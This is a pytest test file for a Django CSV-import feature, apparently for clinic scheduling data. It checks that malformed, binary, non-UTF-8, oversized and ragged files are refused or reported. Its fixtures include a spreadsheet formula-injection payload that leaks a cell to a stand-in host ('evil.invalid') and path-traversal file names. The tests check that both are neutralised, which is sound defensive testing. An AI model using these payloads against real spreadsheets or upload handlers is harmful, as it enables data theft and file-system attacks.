"""Bad files: each is refused (at upload, or by the task with the import marked rejected) with a
message that says what is wrong, or read as well as it can be; none loses or changes the data
loaded before it ("lose nothing")."""

import csv
import io
import os

import pytest

from analytics import selectors as analytics
from imports import selectors
from imports.models import Import, Status
from scheduling.errors import ApplicationError
from tests.imports.test_validation_rules import (
    APPOINTMENTS,
    CAPACITY,
    appointment,
    appointments,
    capacity,
    case,
    cases,
    csv_text,
    problems,
)

pytestmark = pytest.mark.django_db


class Earlier:
    """Facts loaded before the bad file; ``check()`` says they are all still there, unchanged."""

    def __init__(self, upload, facility):
        self.facility = facility
        record, _ = upload(appointments(*(appointment(n, scheduled_chair_minutes="60") for n in range(1, 4))))
        assert record.status == Status.LOADED
        self.record = record
        self.snapshot = self.facts()
        self.imports = Import.objects.count()

    def facts(self) -> list[dict]:
        rows = analytics.fact_rows(kind="chair_appointments", facility_id=self.facility.pk)
        return sorted(rows, key=lambda row: row["id"])

    def check(self, *, new_imports: int = 0) -> None:
        assert self.facts() == self.snapshot
        assert Import.objects.count() == self.imports + new_imports


@pytest.fixture
def earlier(upload, facility):
    return Earlier(upload, facility)


def refused(upload, content, **options) -> ApplicationError:
    with pytest.raises(ApplicationError) as raised:
        upload(content, **options)
    return raised.value


def stored_files(imports_dir) -> list:
    return sorted(path for path in imports_dir.rglob("*") if path.is_file()) if imports_dir.exists() else []


# The rows of the bad files name the earlier appointments with other minutes: a partial load would show.
ROWS = [appointment(n, scheduled_chair_minutes="90") for n in range(1, 4)]
LATIN1_E_ACUTE = "é".encode("latin-1")
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489") + b"\x00" * 64


REFUSED_AT_UPLOAD = {
    "empty": (b"", "empty", "The file is empty."),
    "only blank lines": (b"\n\r\n  \n", "empty", "The file is empty."),
    "header only": (",".join(APPOINTMENTS).encode() + b"\r\n", "no_rows", "The file has a header but no rows."),
    "header and empty rows": (
        (",".join(APPOINTMENTS) + "\n\n,,,,,,,\n").encode(),
        "no_rows",
        "The file has a header but no rows.",
    ),
    "png": (PNG, "binary", "binary data"),
    "random bytes with NULs": (os.urandom(2048) + b"\x00", "binary", "binary data"),
    "semicolons": (
        appointments(*ROWS).replace(",", ";").encode(),
        "wrong_delimiter",
        "The columns are separated by semicolons; CareSlot reads comma-separated files.",
    ),
    "tabs": (appointments(*ROWS).replace(",", "\t").encode(), "wrong_delimiter", "separated by tabs"),
    "latin-1 in the header": (
        appointments(*ROWS).replace("status", "statut_révisé", 1).encode("latin-1"),
        "not_utf8",
        'Latin-1 or Windows-1252 perhaps). Save it as "CSV UTF-8" and upload it again.',
    ),
    "latin-1 in the first rows": (
        appointments(*ROWS).replace("E-0002", "E-0002-Ménière").encode("latin-1"),
        "not_utf8",
        "not UTF-8 text",
    ),
}


@pytest.mark.parametrize("name", list(REFUSED_AT_UPLOAD))
def test_a_file_that_cannot_be_read_is_refused_at_upload_and_nothing_is_kept(upload, earlier, imports_dir, name):
    content, reason, message = REFUSED_AT_UPLOAD[name]
    files = stored_files(imports_dir)

    error = refused(upload, content)

    assert (error.code, error.extra["reason"]) == ("file_rejected", reason)
    assert message in error.message
    if reason == "not_utf8":
        position = content.index(LATIN1_E_ACUTE)
        line = content[:position].count(b"\n") + 1
        assert f"(byte 0xE9 at byte {position}, on line {line};" in error.message
    assert error.status_code == 400
    assert stored_files(imports_dir) == files
    earlier.check()


def test_a_file_over_the_size_limit_is_refused_with_413_and_nothing_is_kept(upload, earlier, imports_dir, settings):
    settings.IMPORTS_MAX_BYTES = 200 * 1024  # rather than writing the 200 MB the real limit is about
    files = stored_files(imports_dir)
    content = appointments(*(appointment(n) for n in range(1, 5000)))
    assert len(content) > settings.IMPORTS_MAX_BYTES

    error = refused(upload, content)

    assert (error.code, error.status_code) == ("file_too_large", 413)
    assert error.message == "The file is larger than the 200 KB an import may be."
    assert error.fields == {"file": [error.message]}
    assert stored_files(imports_dir) == files
    earlier.check()

    settings.IMPORTS_MAX_BYTES = len(content)  # at the limit: taken
    record, created = upload(content)
    assert created and record.status == Status.LOADED


def test_a_file_with_a_utf8_bom_loads(upload, facility, earlier):
    content = "\ufeff" + csv_text(CAPACITY, [capacity("2026-03-02"), capacity("2026-03-03")])
    record, created = upload(content.encode("utf-8"), name="Excel CSV UTF-8.csv")

    assert created and record.kind == "nurse_capacity"
    assert record.status == Status.LOADED, problems(record)
    assert record.rows_loaded == 2
    assert analytics.fact_count(kind="nurse_capacity", facility_id=facility.pk) == 2
    earlier.check(new_imports=1)


def test_latin1_after_the_first_64_kb_rejects_the_import_naming_utf8_and_loads_nothing(upload, earlier):
    rows = [appointment(n, scheduled_chair_minutes="90") for n in range(1, 2001)]
    rows[1500]["encounter_id"] = "E-Ménière"  # line 1502, well past the 64 KB read at upload
    content = appointments(*rows).encode("latin-1")
    position = content.index(LATIN1_E_ACUTE)
    assert position > 64 * 1024

    record, created = upload(content)

    assert created and record.status == Status.REJECTED
    assert record.rejection_code == "not_utf8"
    assert "not UTF-8" in record.message and 'Save it as "CSV UTF-8"' in record.message
    assert f"byte 0xE9 at byte {position}, on line 1502;" in record.message
    assert problems(record) == [(None, "", "", "not_utf8")]
    assert record.rows_loaded == 0
    earlier.check(new_imports=1)


def test_a_nul_after_the_first_64_kb_rejects_the_import_as_binary(upload, earlier):
    content = appointments(*(appointment(n) for n in range(1, 2001))).encode()
    content = content[: 70 * 1024] + b"\x00" + content[70 * 1024 :]

    record, _ = upload(content)

    assert (record.status, record.rejection_code) == (Status.REJECTED, "binary")
    assert f"a NUL byte at byte {70 * 1024}" in record.message
    earlier.check(new_imports=1)


def test_ragged_rows_are_errors_naming_the_line_and_its_field_count(upload, earlier):
    good = ",".join(appointment(4).values())
    longer = ",".join(appointment(5).values()) + ",extra"
    shorter = ",".join(list(appointment(6).values())[:-1])
    content = "\n".join([",".join(APPOINTMENTS), good, longer, shorter, good.replace("A-0004", "A-0007")]) + "\n"

    record, _ = upload(content)

    assert record.status == Status.INVALID
    assert problems(record) == [
        (3, "appointment_id", "", "wrong_field_count"),
        (4, "appointment_id", "", "wrong_field_count"),
        (4, "status", "", "missing"),
    ]
    found = selectors.problem_list(facility=record.facility, import_id=record.pk, code="wrong_field_count")
    assert list(found.values_list("message", flat=True)) == [
        "This line has 9 fields; the header has 8.",
        "This line has 7 fields; the header has 8.",
    ]
    earlier.check(new_imports=1)


def test_a_quote_that_never_closes_rejects_the_import_naming_its_line(upload, earlier):
    lines = [",".join(APPOINTMENTS)] + [",".join(appointment(n).values()) for n in range(1, 7)]
    lines[3] = lines[3].replace("E-0003", '"E-0003')  # line 4
    record, _ = upload("\n".join(lines) + "\n")

    assert (record.status, record.rejection_code) == (Status.REJECTED, "unreadable")
    assert record.message.startswith("Line 4 cannot be read as CSV")
    assert "quote that never closes" in record.message
    assert problems(record) == [(4, "", "", "unreadable")]
    earlier.check(new_imports=1)


@pytest.mark.parametrize(
    "name",
    ["../../etc/chairs.csv", "C:\\Users\\scheduler\\Desktop\\chairs.csv", "/tmp/x/chairs.csv", "chairs\x00.csv"],
)
def test_a_path_in_the_file_name_is_dropped_and_the_file_kept_under_a_generated_name(
    upload, facility, imports_dir, tmp_path, name
):
    before = {path for path in tmp_path.parent.rglob("*") if path.is_file()}
    record, _ = upload(appointments(appointment(1)), name=name)

    assert record.original_name == "chairs.csv"
    assert ".." not in record.stored_name and "chairs" not in record.stored_name
    assert record.stored_name.startswith(f"{facility.public_id}/")
    new = {path for path in tmp_path.parent.rglob("*") if path.is_file()} - before
    assert new == {imports_dir / record.stored_name}


def test_a_formula_in_a_text_cell_is_kept_as_text_and_escaped_in_the_report(upload, facility, theatres, earlier):
    formula = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")'
    long_formula = '=HYPERLINK("http://evil.invalid/' + "x" * 500 + '","Click me")'
    content = cases(
        case(1, **{"CPT Description": formula}),
        case(2, **{"CPT Description": long_formula}),  # too long: in the report
        case(3, **{"Booked Time (min)": "=1+2", "Service": "@SUM(A1:A9)"}),
    )

    record, _ = upload(content, load_valid_rows=True)

    assert record.status == Status.LOADED, record.message
    assert record.rows_loaded == 1
    (fact,) = analytics.fact_rows(kind="or_cases", facility_id=facility.pk)
    assert fact["cpt_description"] == formula
    report = "".join(selectors.report_lines(facility=facility, import_id=record.pk))
    cells = [cell for line in csv.reader(io.StringIO(report)) for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], report
    assert "'" + long_formula[:200] in cells
    assert "'=1+2" in cells
    earlier.check(new_imports=1)


def test_crlf_line_endings_load_and_lines_are_counted_right(upload, earlier):
    good = appointments(appointment(11), appointment(12)).replace("\n", "\r\n")
    record, _ = upload(good)
    assert record.status == Status.LOADED and record.rows_loaded == 2

    bad = appointments(appointment(13), appointment(14, status="postponed"), appointment(15)).replace("\n", "\r\n")
    record, _ = upload(bad)
    assert problems(record) == [(3, "status", "postponed", "unknown_value")]


def test_blank_lines_in_the_middle_are_skipped_and_lines_still_counted_right(upload, earlier):
    lines = appointments(appointment(11), appointment(12, status="postponed"), appointment(13)).splitlines()
    lines[2:2] = ["", "   ", ",,,,,,,"]  # blank, spaces, and the empty row a spreadsheet writes
    record, _ = upload("\n".join(lines) + "\n")

    assert record.status == Status.INVALID
    assert record.rows_read == 3
    assert problems(record) == [(6, "status", "postponed", "unknown_value")]

    lines = appointments(appointment(11), appointment(13)).splitlines()
    lines[2:2] = ["", ",,,,,,,"]
    record, _ = upload("\n".join(lines) + "\n\n")
    assert record.status == Status.LOADED and record.rows_loaded == 2


def test_text_that_reads_like_a_null_marker_is_loaded_as_that_text(upload, earlier, facility):
    record, _ = upload(appointments(appointment(21, encounter_id="\\N"), appointment(22, encounter_id="NULL")))

    assert record.status == Status.LOADED, record.message
    loaded = {
        row["appointment_id"]: row["encounter_id"]
        for row in analytics.fact_rows(kind="chair_appointments", facility_id=facility.pk)
    }
    assert (loaded["A-0021"], loaded["A-0022"]) == ("\\N", "NULL")
